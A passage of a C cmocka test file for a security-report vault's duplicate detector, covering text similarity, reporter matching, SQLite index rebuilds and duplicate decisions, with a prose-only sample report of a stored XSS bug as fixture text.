	assert_true(m.features[AL_DF_VSHARE] == 1);
	assert_int_equal(m.verdict, AL_DUP_LIKELY);
	why_has(&m, AL_AXIS_TEXTUAL, "text similarity 1.00");
	/* markup and case are not words: the same text in Markdown */
	b.description =
		"NOTELY **2.4.1** saves the _body_ field of `POST "
		"/api/v1/notes` as it is, and [NoteView.jsx](#) renders it "
		"with `dangerouslySetInnerHTML`. Any workspace member can "
		"store "
		"a script in a note; it runs in the browser of everyone who "
		"opens that note, admins included, and can read their session "
		"token from localStorage.";
	m = cmp_specs(&xss_body, &b, "identical but for Markdown and case");
	assert_true(m.features[AL_DF_TEXT] > 0.999);
}

static void test_dedup__no_terms_says_so(void **state)
{
	struct spec a = xss_body, b = xss_body;
	struct al_dup_match m;

	(void)state;
	b.no_terms = true;
	m = cmp_specs(&a, &b, "no sketch");
	assert_true(m.features[AL_DF_TEXT] == 0);
	assert_true(m.features[AL_DF_VSHARE] == 0);
	why_has(&m, AL_AXIS_TEXTUAL, "no text terms");
	assert_true(m.axes[AL_AXIS_TEXTUAL].score == 0);
	/* the structure still speaks */
	assert_true(m.features[AL_DF_PACKAGE] == 1);
	assert_true(m.features[AL_DF_CLASS] == 1);
}

/* ---- reporter ------------------------------------------------------------ */

#define FPR_A "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
#define FPR_B "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"

static void test_dedup__reporter_is_said_not_scored(void **state)
{
	struct spec a = xss_body, b = xss_body_para;
	struct al_dup_match base, m;

	(void)state;
	a.signer = FPR_A;
	b.signer = FPR_B;
	base = cmp_specs(&a, &b, "other reporter");
	assert_false(base.same_reporter);
	assert_false(base.axes[AL_AXIS_REPORTER].set);

	/* the same signing key */
	b.signer = FPR_A;
	m = cmp_specs(&a, &b, "same signer");
	assert_true(m.same_reporter);
	why_has(&m, AL_AXIS_REPORTER, "same signing key AAAAAAAAAAAAAAAA");
	why_has(&m, AL_AXIS_REPORTER, "a re-send, not another finder");
	assert_true(m.axes[AL_AXIS_REPORTER].score == 1);
	assert_true(m.score == base.score);
	assert_int_equal(m.verdict, base.verdict);

	/* the same contact (case aside), other keys or none */
	b.signer = FPR_B;
	b.contact = "ALICE@example.net";
	m = cmp_specs(&a, &b, "same contact");
	assert_true(m.same_reporter);
	why_has(&m, AL_AXIS_REPORTER, "same contact");
	assert_true(m.score == base.score);
	a.signer = NULL;
	m = cmp_specs(&a, &b, "same contact, one unsigned");
	assert_true(m.same_reporter);
	assert_true(m.score == base.score);

	/* nothing said: empty contacts, empty or missing signers */
	a.contact = b.contact = "";
	a.signer = b.signer = "";
	m = cmp_specs(&a, &b, "empty contact and signer");
	assert_false(m.same_reporter);
	assert_false(m.axes[AL_AXIS_REPORTER].set);
	a.contact = b.contact = NULL;
	a.signer = b.signer = NULL;
	m = cmp_specs(&a, &b, "no contact, unsigned");
	assert_false(m.same_reporter);
	assert_true(m.score == base.score);
}

/* ---- properties ---------------------------------------------------------- */

static void test_dedup__score_symmetric_and_deterministic(void **state)
{
	const struct spec *specs[] = {&xss_body, &xss_body_para, &xss_title,
				      &far_a, &far_b};
	struct tdoc d[5];
	char id[40];

	(void)state;
	for (size_t i = 0; i < 5; i++) {
		snprintf(id, sizeof(id), "%08zx-1111-4111-8111-111111111111",
			 i + 0x40);
		doc_make(&d[i], id, specs[i]);
	}
	for (size_t i = 0; i < 5; i++) {
		for (size_t j = 0; j < 5; j++) {
			struct al_dup_match x, y, z;

			if (i == j)
				continue;
			x = cmp(&d[i], &d[j], "pair");
			y = cmp(&d[j], &d[i], "pair reversed");
			z = cmp(&d[i], &d[j], "pair again");
			if (fabs(x.score - y.score) > 1e-12)
				fail_msg("%zu vs %zu: %.6f, reversed %.6f", i,
					 j, x.score, y.score);
			assert_true(x.score == z.score);
			assert_int_equal(x.verdict, z.verdict);
			assert_true(x.same_reporter == z.same_reporter);
			for (int k = 0; k < AL_DF_COUNT; k++)
				assert_true(x.features[k] == z.features[k]);
			for (int a = 0; a < AL_AXIS_COUNT; a++)
				assert_string_equal(x.axes[a].why,
						    z.axes[a].why);
		}
	}
	for (size_t i = 0; i < 5; i++)
		doc_free(&d[i]);
}

/* ---- the vault's side (a ledger without gpg) ----------------------------- */

#define T_PAST 1700000000

#define ID_Q "a1a1a1a1-1111-4111-8111-111111111111"
#define ID_P "b2b2b2b2-2222-4222-9222-222222222222"
#define ID_T "c3c3c3c3-3333-4333-a333-333333333333"
#define ID_R "d4d4d4d4-4444-4444-b444-444444444444"
#define ID_F "e5e5e5e5-5555-4555-8555-555555555555"
#define ID_X "f6f6f6f6-6666-4666-8666-666666666666"

struct fx {
	char dir[64];
	struct al_vault *v;
	sqlite3 *db;
	int64_t t;
};

static int vault_setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));
	struct al_error err = {0};
	char path[128];
	struct al_vault *v;

	if (!f || !(v = calloc(1, sizeof(*v))))
		return -1;
	snprintf(f->dir, sizeof(f->dir), "/tmp/al-dedup-XXXXXX");
	if (!mkdtemp(f->dir))
		return -1;
	snprintf(path, sizeof(path), "%s/ledger.sqlite", f->dir);
	v->dirfd = v->lockfd = -1;
	snprintf(v->actor, sizeof(v->actor), "%s",
		 "0123456789ABCDEF0123456789ABCDEF01234567");
	if (al_db_open(path, true, &v->db, &err) ||
	    al_policy_init_default(&v->policy, &err)) {
		print_error("%s\n", err.msg);
		return -1;
	}
	f->v = v;
	f->db = v->db;
	f->t = T_PAST;
	*state = f;
	return 0;
}

static int vault_teardown(void **state)
{
	struct fx *f = *state;
	char cmd[128];

	al_vault_close(f->v);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->dir);
	if (system(cmd) != 0)
		return -1;
	free(f);
	return 0;
}

static void exec_ok(sqlite3 *db, const char *sql)
{
	char *msg = NULL;

	if (sqlite3_exec(db, sql, NULL, NULL, &msg) != SQLITE_OK)
		fail_msg("%s: %s", sql, msg ? msg : "?");
}

static int64_t scalar(struct fx *f, const char *sql)
{
	struct al_error err = {0};
	int64_t n = -1;

	if (al_db_scalar(f->db, sql, &n, &err))
		fail_msg("%s: %s", sql, err.msg);
	return n;
}

static int64_t nevents(struct fx *f)
{
	return scalar(f, "SELECT count(*) FROM events");
}

/* A content-addressed row: data as text (metas) or a blob (sketches). */
static void put_row(struct fx *f, const char *sql, const char *sha,
		    const void *data, size_t len, bool blob)
{
	sqlite3_stmt *st;

	assert_int_equal(sqlite3_prepare_v2(f->db, sql, -1, &st, NULL),
			 SQLITE_OK);
	sqlite3_bind_text(st, 1, sha, -1, SQLITE_STATIC);
	if (blob)
		sqlite3_bind_blob(st, 2, data, (int)len, SQLITE_STATIC);
	else
		sqlite3_bind_text(st, 2, data, (int)len, SQLITE_STATIC);
	assert_int_equal(sqlite3_step(st), SQLITE_DONE);
	sqlite3_finalize(st);
}

/*
 * Import report id (revision rev) as al_import.c writes it: its metas row
 * (the manifest without its texts), its sketch with the vault's key, and
 * an import event naming both, applied.  Each import a minute after the
 * last.
 */
static void import_spec(struct fx *f, const char *id, const struct spec *s,
			int rev)
{
	struct al_error err = {0};
	uint8_t vkey[AL_TERMS_KEY_LEN], *sketch = NULL;
	char meta_sha[AL_SHA256_HEX], sketch_sha[AL_SHA256_HEX];
	char bundle[AL_SHA256_HEX], content[AL_SHA256_HEX], tag[64];
	json_t *m = manifest_of(id, s), *data, *sig;
	char *meta = NULL;
	size_t len = 0;
	int64_t seq = -1;

	json_object_del(m, "description");
	json_object_del(m, "steps");
	meta = json_dumps(m, JSON_COMPACT | JSON_SORT_KEYS);
	al_sha256_hex(meta, strlen(meta), meta_sha);
	json_decref(m);
	m = manifest_of(id, s);
	snprintf(tag, sizeof(tag), "%s/%d/bundle", id, rev);
	al_sha256_hex(tag, strlen(tag), bundle);
	snprintf(tag, sizeof(tag), "%s/%d/content", id, rev);
	al_sha256_hex(tag, strlen(tag), content);
	sig = s->signer ? json_pack("{s:s, s:s}", "state", "good", "fpr",
				    s->signer)
			: json_pack("{s:s}", "state", "none");

	assert_int_equal(al_db_begin(f->db, &err), 0);
	if (al_dedup_key(f->db, vkey, &err) ||
	    al_dedup_sketch(vkey, m, &sketch, &len, &err))
		fail_msg("sketch of %s: %s", id, err.msg);
	al_sha256_hex(sketch, len, sketch_sha);
	put_row(f, "INSERT OR IGNORE INTO metas (sha256, json) VALUES (?, ?)",
		meta_sha, meta, strlen(meta), false);
	if (!s->no_terms)
		put_row(f,
			"INSERT OR IGNORE INTO sketches (sha256, data) VALUES "
			"(?, ?)",
			sketch_sha, sketch, len, true);
	data = json_pack("{s:s, s:I, s:s, s:s, s:s, s:I, s:o}", "bundle",
			 bundle, "bytes", (json_int_t)100, "content", content,
			 "manifest", bundle, "meta", meta_sha, "revision",
			 (json_int_t)rev, "signature", sig);
	if (!s->no_terms)
		json_object_set_new(data, "sketch", json_string(sketch_sha));
	f->t += 60;
	if (al_vault_append(f->v, f->t, "import", id, data, &seq, &err) ||
	    al_state_apply(f->db, seq, &err))
		fail_msg("import %s: %s", id, err.msg);
	assert_int_equal(al_db_commit(f->db, &err), 0);
	json_decref(data);
	json_decref(m);
	free(meta);
	free(sketch);
}

/* The background, then q (body), para (paraphrase), title (another bug). */
static void import_all(struct fx *f)
{
	char id[40];

	for (size_t i = 0; i < NBG; i++) {
		snprintf(id, sizeof(id), "%08zx-0000-4000-8000-%012zx", i, i);
		import_spec(f, id, &background[i], 1);
	}
	import_spec(f, ID_Q, &xss_body, 1);
	import_spec(f, ID_P, &xss_body_para, 1);
	import_spec(f, ID_T, &xss_title, 1);
}

static const struct al_dup *find_dup(const struct al_dup *d, size_t n,
				     const char *id)
{
	for (size_t i = 0; i < n; i++)
		if (!strcmp(d[i].report, id))
			return &d[i];
	return NULL;
}

static void test_dedup__vault_candidates_best_first(void **state)
{
	struct fx *f = *state;
	struct al_error err = {0};
	struct al_dup *d = NULL, *all = NULL;
	const struct al_dup *x;
	size_t n = 0, nall = 0;

	import_all(f);
	/* the paraphrase, checked: the body report first, listed (possible
	 * at least: see test_dedup__paraphrase_beats_same_endpoint_family),
	 * earlier */
	assert_int_equal(al_vault_dups(f->v, ID_P, 10, false, &d, &n, &err), 0);
	assert_true(n >= 1);
	assert_string_equal(d[0].report, ID_Q);
	assert_int_not_equal(d[0].m.verdict, AL_DUP_NONE);
	assert_true(d[0].earlier);
	assert_string_equal(d[0].title, xss_body.title);
	assert_string_equal(d[0].via, "");
	assert_null(find_dup(d, n, ID_P));
	for (size_t i = 0; i < n; i++) {
		check_match(&d[i].m);
		assert_int_not_equal(d[i].m.verdict, AL_DUP_NONE);
		if (i)
			assert_true(d[i - 1].m.score >= d[i].m.score);
	}
	/* the other bug of the same endpoint comes after the original
	 * (whether it is likely is test_dedup__paraphrase_beats_same_
	 * endpoint_family's question) */
	if ((x = find_dup(d, n, ID_T)))
		assert_true(x->m.score <= d[0].m.score);
	/* all: every candidate scored, NONE included, as many or more */
	assert_int_equal(al_vault_dups(f->v, ID_P, 0, true, &all, &nall, &err),
			 0);
	assert_true(nall >= n);
	assert_non_null(find_dup(all, nall, ID_Q));
	for (size_t i = 1; i < nall; i++)
		assert_true(all[i - 1].m.score >= all[i].m.score);
	free(all);
	free(d);
	/* max */
	assert_int_equal(al_vault_dups(f->v, ID_P, 1, true, &d, &n, &err), 0);
	assert_int_equal(n, 1);
	assert_string_equal(d[0].report, ID_Q);
	free(d);
	/* the earlier report sees the later one, not earlier */
	assert_int_equal(al_vault_dups(f->v, ID_Q, 10, false, &d, &n, &err), 0);
	assert_non_null(x = find_dup(d, n, ID_P));
	assert_false(x->earlier);
	assert_int_not_equal(x->m.verdict, AL_DUP_NONE);
	free(d);
	/* an unknown report */
	d = NULL;
	assert_int_equal(al_vault_dups(f->v, ID_X, 10, false, &d, &n, &err),
			 AL_ENOTFOUND);
	assert_non_null(strstr(err.msg, "no report '" ID_X "'"));
	assert_null(d);
	assert_int_equal(n, 0);
}

static void
test_dedup__vault_shared_attachment_found_without_words(void **state)
{
	struct fx *f = *state;
	struct al_error err = {0};
	struct spec a = far_a, b = far_b;
	struct al_dup *d = NULL;
	size_t n = 0;

	import_all(f);
	a.files = "[{\"path\":\"attachments/poc.html\",\"size\":42,"
		  "\"sha256\":\"" SHA_POC "\"}]";
	b.files = a.files;
	import_spec(f, ID_R, &a, 1);
	import_spec(f, ID_F, &b, 1);
	assert_int_equal(al_vault_dups(f->v, ID_F, 10, false, &d, &n, &err), 0);
	assert_true(n >= 1);
	assert_string_equal(d[0].report, ID_R);
	assert_true(d[0].m.score >= 0.99);
	assert_true(d[0].m.axes[AL_AXIS_EXACT].set);
	free(d);
}

/* The duplicate index's tables, as one text. */
static char *index_text(struct fx *f)
{
	static const char *const sql[] = {
		"SELECT doc || ' ' || report || ' ' || coalesce(sketch, '-') "
		"FROM dedup_docs ORDER BY doc",
		"SELECT term || ' ' || df FROM dedup_terms ORDER BY term",
		"SELECT term || ' ' || doc FROM dedup_postings ORDER BY term, "
		"doc",
		"SELECT sha256 || ' ' || doc FROM dedup_files ORDER BY sha256, "
		"doc",
	};
	char *out = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&out, &len);

	assert_non_null(m);
	for (size_t i = 0; i < 4; i++) {
		sqlite3_stmt *st;

		assert_int_equal(
			sqlite3_prepare_v2(f->db, sql[i], -1, &st, NULL),
			SQLITE_OK);
		fprintf(m, "-- %zu\n", i);
		while (sqlite3_step(st) == SQLITE_ROW)
			fprintf(m, "%s\n", sqlite3_column_text(st, 0));
		sqlite3_finalize(st);
	}
	fclose(m);
	return out;
}

static void test_dedup__vault_revision_reindexed_as_a_rebuild(void **state)
{
	struct fx *f = *state;
	struct al_error err = {0};
	struct spec q2 = far_a;
	char *live, *rebuilt;
	int64_t qdoc;
	uint8_t vkey[AL_TERMS_KEY_LEN];
	struct al_terms t = {0};
	json_t *m;

	import_all(f);
	/* q had an attachment; its revision has none and other words */
	{
		struct spec q1 = xss_body;

		q1.files = "[{\"path\":\"attachments/poc.html\",\"size\":42,"
			   "\"sha256\":\"" SHA_POC "\"}]";
		import_spec(f, ID_R, &q1, 1);
	}
	assert_int_equal(scalar(f, "SELECT count(*) FROM dedup_files"), 1);
	import_spec(f, ID_R, &q2, 2);
	qdoc = scalar(f,
		      "SELECT doc FROM dedup_docs WHERE report = '" ID_R "'");
	assert_int_equal(scalar(f, "SELECT count(*) FROM dedup_docs"), NBG + 4);
	assert_int_equal(scalar(f, "SELECT count(*) FROM dedup_files"), 0);
	/* its postings are the revision's terms, each once */
	assert_int_equal(al_dedup_key(f->db, vkey, &err), 0);
	m = manifest_of(ID_R, &q2);
	terms_of(vkey, m, &t);
	{
		char sql[128];

		snprintf(sql, sizeof(sql),
			 "SELECT count(*) FROM dedup_postings WHERE doc = %lld",
			 (long long)qdoc);
		assert_int_equal(scalar(f, sql), (int64_t)t.n);
	}
	/* no term is counted in more reports than hold it */
	assert_int_equal(
		scalar(f, "SELECT count(*) FROM dedup_terms t WHERE df != "
			  "(SELECT count(*) FROM dedup_postings p WHERE "
			  "p.term = t.term)"),
		0);
	assert_int_equal(scalar(f, "SELECT count(*) FROM dedup_terms WHERE "
				   "df <= 0"),
			 0);
	/* and a rebuild from the events gives the same tables */
	live = index_text(f);
	assert_int_equal(al_db_begin(f->db, &err), 0);
	if (al_state_rebuild(f->db, &err))
		fail_msg("rebuild: %s", err.msg);
	rebuilt = index_text(f);
	al_db_rollback(f->db);
	assert_string_equal(live, rebuilt);
	free(live);
	free(rebuilt);
	al_terms_free(&t);
	json_decref(m);
}

static void dup_refused(struct fx *f, const char *id, const char *of, int code,
			const char *part)
{
	struct al_error err = {0};
	char original[40] = "x";
	int64_t before = nevents(f);
	int rc = al_vault_dup(f->v, id, of, original, &err);

	if (rc != code)
		fail_msg("dup %.8s --of %.8s: %d (%s), want %d", id, of, rc,
			 err.msg, code);
	if (!strstr(err.msg, part))
		fail_msg("dup %.8s --of %.8s: '%s' lacks '%s'", id, of, err.msg,
			 part);
	assert_int_equal(nevents(f), before);
	assert_string_equal(original, "");
}

static const char *col(struct fx *f, const char *id, const char *column)
{
	static char buf[4][128];
	static int k;
	char sql[128];
	sqlite3_stmt *st;
	char *out = buf[k++ % 4];

	snprintf(sql, sizeof(sql), "SELECT %s FROM reports WHERE id = ?",
		 column);
	assert_int_equal(sqlite3_prepare_v2(f->db, sql, -1, &st, NULL),
			 SQLITE_OK);
	sqlite3_bind_text(st, 1, id, -1, SQLITE_STATIC);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	if (sqlite3_column_type(st, 0) == SQLITE_NULL)
		out = NULL;
	else
		snprintf(out, 128, "%s", sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	return out;
}

static void test_dedup__vault_decisions(void **state)
{
	struct fx *f = *state;
	struct al_error err = {0};
	struct al_move mv;
	struct al_dup *d = NULL;
	char original[40];
	size_t n = 0;
	int64_t before;

	import_all(f);
	import_spec(f, ID_R, &xss_body_para, 1); /* a third copy */

	/* p duplicates q: one event, {"of": q} */
	before = nevents(f);
	assert_int_equal(al_vault_dup(f->v, ID_P, ID_Q, original, &err), 0);
	assert_string_equal(original, ID_Q);
	assert_int_equal(nevents(f), before + 1);
	assert_string_equal(col(f, ID_P, "duplicate_of"), ID_Q);
	assert_int_equal(scalar(f, "SELECT count(*) FROM events WHERE kind = "
				   "'duplicate' AND report = '" ID_P
				   "' AND data = '{\"of\":\"" ID_Q "\"}'"),
			 1);
	/* r duplicates p, which is q's duplicate: q is recorded */
	assert_int_equal(al_vault_dup(f->v, ID_R, ID_P, original, &err), 0);
	assert_string_equal(original, ID_Q);
	assert_string_equal(col(f, ID_R, "duplicate_of"), ID_Q);

	/* the refusals, nothing recorded */
	dup_refused(f, ID_T, ID_T, AL_EINVAL, "cannot duplicate itself");
	dup_refused(f, ID_T, ID_X, AL_ENOTFOUND, "--of: no report '" ID_X);
	dup_refused(f, ID_X, ID_Q, AL_ENOTFOUND, "no report '" ID_X);
	dup_refused(f, ID_Q, ID_T, AL_EINVAL,
		    "came after a1a1a1a1: the earlier report is the original");
	dup_refused(f, ID_Q, ID_P, AL_EINVAL,
		    "--of: report b2b2b2b2 is recorded as a duplicate of "
		    "a1a1a1a1 itself");
	dup_refused(f, ID_P, ID_T, AL_EINVAL,
		    "report b2b2b2b2 is recorded as a duplicate of a1a1a1a1 "
		    "already");
	assert_int_equal(al_vault_status(f->v, ID_T, "spam", NULL, &mv, &err),
			 0);
	dup_refused(f, ID_T, ID_Q, AL_EINVAL,
		    "report c3c3c3c3 is spam (closed): reopen it first");

	/* a candidate recorded as a duplicate shows as its original */
	assert_int_equal(al_vault_dups(f->v, ID_T, 10, true, &d, &n, &err), 0);
	assert_null(find_dup(d, n, ID_P));
	assert_null(find_dup(d, n, ID_R));
	assert_non_null(find_dup(d, n, ID_Q));
	free(d);

	/* undup: the decision taken back, then there is none to take */
	before = nevents(f);
	assert_int_equal(al_vault_undup(f->v, ID_R, NULL, &mv, &err), 0);
	assert_int_equal(nevents(f), before + 1);
	assert_null(col(f, ID_R, "duplicate_of"));
	assert_string_equal(col(f, ID_R, "state"), "new");
	assert_int_equal(al_vault_undup(f->v, ID_R, NULL, &mv, &err),
			 AL_EINVAL);
	assert_non_null(strstr(err.msg, "report d4d4d4d4 is not recorded as "
					"a duplicate"));
	assert_int_equal(nevents(f), before + 1);

	/* closed as duplicate, undup reopens it to acknowledged */
	assert_int_equal(
		al_vault_status(f->v, ID_P, "duplicate", NULL, &mv, &err), 0);
	assert_string_equal(col(f, ID_P, "state"), "duplicate");
	assert_int_equal(al_vault_undup(f->v, ID_P, "a different bug after all",
					&mv, &err),
			 0);
	assert_int_equal(mv.from, AL_STATE_DUPLICATE);
	assert_int_equal(mv.to, AL_STATE_ACKNOWLEDGED);
	assert_string_equal(col(f, ID_P, "state"), "acknowledged");
	assert_null(col(f, ID_P, "duplicate_of"));
	exec_ok(f->db, "SELECT 1");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dedup__feature_names_in_enum_order),
		cmocka_unit_test(test_dedup__axis_names_in_order),
		cmocka_unit_test(test_dedup__verdict_names_and_thresholds),
		cmocka_unit_test(test_dedup__exact_shared_attachment_is_likely),
		cmocka_unit_test(test_dedup__exact_key_file_does_not_count),
		cmocka_unit_test(test_dedup__exact_empty_file_does_not_count),
		cmocka_unit_test(test_dedup__packages_normalised_per_ecosystem),
		cmocka_unit_test(
			test_dedup__package_rename_is_the_same_package),
		cmocka_unit_test(test_dedup__disjoint_ranges_score_lower),
		cmocka_unit_test(test_dedup__versions_in_common),
		cmocka_unit_test(test_dedup__class_and_cwe_relations),
		cmocka_unit_test(
			test_dedup__paraphrase_beats_same_endpoint_family),
		cmocka_unit_test(test_dedup__identical_texts),
		cmocka_unit_test(test_dedup__no_terms_says_so),
		cmocka_unit_test(test_dedup__reporter_is_said_not_scored),
		cmocka_unit_test(test_dedup__score_symmetric_and_deterministic),
		cmocka_unit_test_setup_teardown(
			test_dedup__vault_candidates_best_first, vault_setup,
			vault_teardown),
		cmocka_unit_test_setup_teardown(
			test_dedup__vault_shared_attachment_found_without_words,
			vault_setup, vault_teardown),
		cmocka_unit_test_setup_teardown(
			test_dedup__vault_revision_reindexed_as_a_rebuild,
			vault_setup, vault_teardown),
		cmocka_unit_test_setup_teardown(test_dedup__vault_decisions,
						vault_setup, vault_teardown),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
